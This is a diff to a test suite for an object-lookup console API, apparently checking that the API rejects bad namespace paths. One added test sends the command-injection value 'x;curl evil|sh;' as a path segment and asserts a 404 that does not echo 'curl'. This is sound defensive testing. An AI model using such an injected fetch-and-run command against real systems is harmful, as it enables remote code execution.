@@ -40,6 +40,15 @@ describe("objects in the console", () => {
       tree: { object: "Widget default/w", functions: [{ function: "widget-grow" }] },
     });
     expect(await ask("widget/default/gone")).toMatchObject({ status: 404 });
+    expect(JSON.stringify(await ask("widget/default/gone"))).toContain("--namespace default");
+    await using seesAll = await serve("all");
+    const link = `/api/v1/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
+    const refused = await seesAll.ask(link, { headers: await seesAll.logIn() });
+    expect(refused).toMatchObject({
+      status: 404,
+      body: { next: expect.stringContaining("--all-namespaces") },
+    });
+    expect(JSON.stringify(refused)).not.toContain("curl");
     expect(await ask("nothing/default/w")).toMatchObject({ status: 404 });
     expect(await ask("widget/other/w")).toMatchObject({ status: 403 });
     await using foreign = await serve("other");
